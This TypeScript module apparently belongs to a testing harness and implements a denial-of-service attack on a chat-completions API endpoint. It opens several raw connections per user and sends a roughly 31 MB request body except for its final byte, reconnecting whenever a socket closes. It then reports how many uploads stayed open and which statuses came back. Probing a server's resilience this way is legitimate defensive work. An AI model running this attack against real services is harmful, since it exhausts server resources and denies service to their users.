import type { Socket } from 'node:net';
import type { BeginAttack } from '../attacker.ts';
import { postWithoutReading } from '../raw-request.ts';
import { createTally, type AttackingUser } from './user.ts';

export const REQUESTS_OF_EACH = 4;
const BODY = Buffer.from(`{"model":"gpt-4o","messages":[],"user":"${'x'.repeat(31 * 1024 * 1024)}"}`);

export const begin: BeginAttack<{ users: AttackingUser[] }> = async ({ users }) => {
  const stop = new AbortController();
  const sockets = new Set<Socket>();
  const statuses = createTally();

  /** A client whose upload was ended begins again. @returns the first connection. */
  function open({ url, session }: AttackingUser): Socket {
    const sentBytes = BODY.length - 1;
    const path = '/v1/chat/completions';
    const socket = postWithoutReading({ url }, { session, path, body: BODY, sentBytes });
    sockets.add(socket);
    socket.once('data', (head: Buffer) => {
      statuses.add(/^HTTP\/1\.1 (\d+)/.exec(head.toString('latin1'))?.[1] ?? 'no status');
    });
    socket.resume().once('close', () => {
      sockets.delete(socket);
      if (!stop.signal.aborted) setTimeout(open, 100, { url, session });
    });
    return socket;
  }

  const uploads = users.flatMap((user) => Array.from({ length: REQUESTS_OF_EACH }, () => open(user)));
  await Promise.all(uploads.map(waitUntilSent));
  return () => {
    stop.abort();
    const open = sockets.size;
    for (const socket of sockets) socket.destroy();
    return Promise.resolve(`${open} open uploads; responses: ${statuses.toString()}`);
  };
};

/** Also resolves when the app has ended the upload. */
function waitUntilSent(socket: Socket): Promise<unknown> {
  return new Promise((resolve) => {
    socket.once('drain', resolve).once('close', resolve);
  });
}
